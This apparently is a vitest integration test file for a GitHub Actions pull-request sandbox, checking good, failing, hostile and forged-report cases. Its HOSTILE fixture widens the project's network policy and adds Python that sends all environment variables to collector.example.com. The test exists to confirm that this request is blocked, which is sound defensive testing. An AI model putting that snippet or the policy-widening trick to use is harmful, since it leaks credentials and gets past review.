import fs from 'node:fs';
import type { RequestListener } from 'node:http';
import path from 'node:path';
import { expect, test } from 'vitest';
import { commitAll, git } from '../action/open-act.ts';
import { footprint, settled } from '../integration/support/footprint.ts';
import { headerValues, openExample, type Example } from './open-example.ts';

const TOKEN = 'ghs_4hT2kPq9WzLr7XvBn3MdYc8Js5Fg6Ue1Ra0K';
const GOOD = { 'slug.py': { from: 'title.lower()', to: 'title.replace("ß", "ss").lower()' }, 'test_slug.py': { from: '"hello-world")', to: '"hello-world")\n        self.assertEqual(slug("Straße"), "strasse")' } };

/** Gives itself more in the policy file and sends what it finds to a host it has named there. */
const HOSTILE = {
  '.github/decoy.yml': { from: 'allow: []', to: 'allow: [collector.example.com]' },
  'test_slug.py': {
    from: 'import unittest',
    to: 'import os, unittest, urllib.request\ntry:\n    urllib.request.urlopen("https://collector.example.com/", data=repr(dict(os.environ)).encode(), timeout=20)\nexcept OSError:\n    pass\n',
  },
};

test('a good patch passes, and the comment says so with the rights of the second workflow alone', async () => {
  await using example = await openSlug();
  const pull = openPull(example, GOOD);
  const check = await example.run(pull.check);
  expect(check.exitCode, check.log).toBe(0);
  const report = reportOf(example);
  expect(report).toMatchObject({ conclusion: 'success', changes: { files: 2 }, usage: { network: { requests: 0, blocked: 0 } } });
  expect(example.artifact('decoy-report')?.['changes.patch']).toContain('+        self.assertEqual(slug("Straße"), "strasse")');
  expect(await settled(() => footprint(report.id))).toEqual([]);

  const verdict = await example.run(pull.verdict);
  expect(verdict.exitCode, verdict.log).toBe(0);
  expect(comments(example)).toEqual([{ url: '/api/v3/repos/owner/project/issues/7/comments', body: '<!-- decoy verdict -->\n**success**, exit code 0, nothing blocked.\n2 files changed against the base, 2 lines added, 1 removed.\n\n[The run](https://localhost/run)' }]);
  expect(new Set(headerValues(example.received, 'authorization'))).toEqual(new Set([`Bearer ${TOKEN}`]));
}, 90_000);

test('a patch that fails the tests fails the check', async () => {
  await using example = await openSlug();
  const pull = openPull(example, { 'slug.py': { from: '"-"', to: '"_"' } });
  expect((await example.run(pull.check)).exitCode).not.toBe(0);
  expect(reportOf(example)).toMatchObject({ conclusion: 'failure', exitCode: 1 });
  expect((await example.run(pull.verdict)).exitCode).toBe(0);
  expect(comments(example)[0]?.body).toContain('**failure**, exit code 1, nothing blocked.');
}, 90_000);

test('a patch that widens its own policy is held to that of the base, and gets no verdict in its favour', async () => {
  await using example = await openSlug();
  const pull = openPull(example, HOSTILE);
  const { exitCode, log } = await example.run(pull.check);
  expect(exitCode, log).toBe(0);
  expect(reportOf(example).blocked).toMatchObject([{ host: 'collector.example.com', reason: 'name-not-allowed' }]);
  expect(example.asked()).toEqual([]);
  expect((await example.run(pull.verdict)).exitCode).toBe(0);
  expect(comments(example)[0]?.body).toContain('**No verdict**: this pull request changes files in `.github`');
}, 90_000);

test('a forged report puts no word of its own into the comment, of which there is one', async () => {
  await using example = await openSlug();
  const pull = openPull(example, GOOD);
  expect((await example.run(pull.check)).exitCode).toBe(0);
  const file = path.join(path.dirname(example.project), 'artifact-decoy-report', 'report.json');
  for (const forged of ['{', JSON.stringify({ ...reportOf(example), conclusion: 'success** @everyone' }), JSON.stringify({ ...reportOf(example), exitCode: '0 @everyone' })]) {
    fs.writeFileSync(file, forged);
    expect((await example.run(pull.verdict)).exitCode).toBe(0);
    expect(comments(example).at(-1)?.body).toContain('**No verdict**: the check left no report that can be read.');
  }
  expect(comments(example).map(({ url }) => url.replace('/api/v3/repos/owner/project/', ''))).toEqual(['issues/7/comments', 'issues/comments/5', 'issues/comments/5']);
  expect(JSON.stringify(comments(example))).not.toContain('everyone');
}, 90_000);

type Pull = { head: string; files: string[] };
const pulls = new WeakMap<Example, Pull>();

/** A project whose GitHub knows pull request 7, of a fork. */
async function openSlug(): Promise<Example> {
  let posted = false;
  const respond: RequestListener = (request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '', 'https://localhost');
    const place = pathname.replace('/api/v3/repos/owner/project/', '');
    const { head, files } = pulls.get(example) as Pull;
    const answers: Record<string, unknown> = {
      'GET pulls': searchParams.get('head') === 'stranger:change' ? [{ number: 3, head: { sha: '0'.repeat(40) } }, { number: 7, head: { sha: head } }] : [],
      'GET pulls/7/files': files.map((filename) => ({ filename })),
      'GET issues/7/comments': [{ id: 4, user: null, body: '<!-- decoy verdict -->' }, ...(posted ? [{ id: 5, user: { login: 'github-actions[bot]' }, body: '<!-- decoy verdict -->' }] : [])],
      'POST issues/7/comments': { id: 5 },
      'PATCH issues/comments/5': { id: 5 },
    };
    posted ||= request.method === 'POST';
    const answer = answers[`${request.method} ${place}`];
    response.writeHead(answer === undefined ? 404 : 200, { 'content-type': 'application/json' }).end(JSON.stringify(answer ?? {}));
  };
  const example = await openExample('pull-request', { hosts: ['collector.example.com'], respond });
  commitAll(example.project, 'base');
  return example;
}

/** Checks out the merge of a commit with these changes into the base, as GitHub does for a pull request. */
function openPull(example: Example, changes: Record<string, { from: string; to: string }>) {
  const { project, port } = example;
  const base = git(project, ['rev-parse', 'HEAD']);
  const branch = git(project, ['rev-parse', '--abbrev-ref', 'HEAD']);
  git(project, ['checkout', '-qb', 'change']);
  for (const [name, { from, to }] of Object.entries(changes)) {
    const file = path.join(project, name);
    const text = fs.readFileSync(file, 'utf8');
    expect(text).toContain(from);
    fs.writeFileSync(file, text.replace(from, to));
  }
  const head = commitAll(project, 'change');
  git(project, ['checkout', '-q', branch]);
  git(project, ['-c', 'user.name=t', '-c', 'user.email=t@example.com', 'merge', '-q', '--no-ff', '-m', 'merge', 'change']);
  pulls.set(example, { head, files: Object.keys(changes) });
  const repository = { full_name: 'owner/project', name: 'project', owner: { login: 'owner' } };
  const run = { id: 1, event: 'pull_request', head_sha: head, head_branch: 'change', head_repository: { owner: { login: 'stranger' } }, html_url: 'https://localhost/run', pull_requests: [] };
  return {
    check: { event: 'pull_request', workflow: 'pull-request.yml', payload: { repository, number: 7, pull_request: { number: 7, base: { sha: base, ref: branch }, head: { sha: head, ref: 'change' } } } },
    verdict: {
      event: 'workflow_run', workflow: 'verdict.yml', payload: { repository, action: 'completed', workflow_run: run }, secrets: { GITHUB_TOKEN: TOKEN },
      args: ['--github-instance', `localhost:${port}`], env: { GITHUB_REPOSITORY: 'owner/project' },
    },
  };
}

function reportOf(example: Example) {
  return JSON.parse(example.artifact('decoy-report')?.['report.json'] ?? 'null');
}

function comments({ received }: Example): { url: string; body: string }[] {
  return received.filter(({ method }) => method !== 'GET').map(({ url, body }) => ({ url, body: JSON.parse(body).body as string }));
}
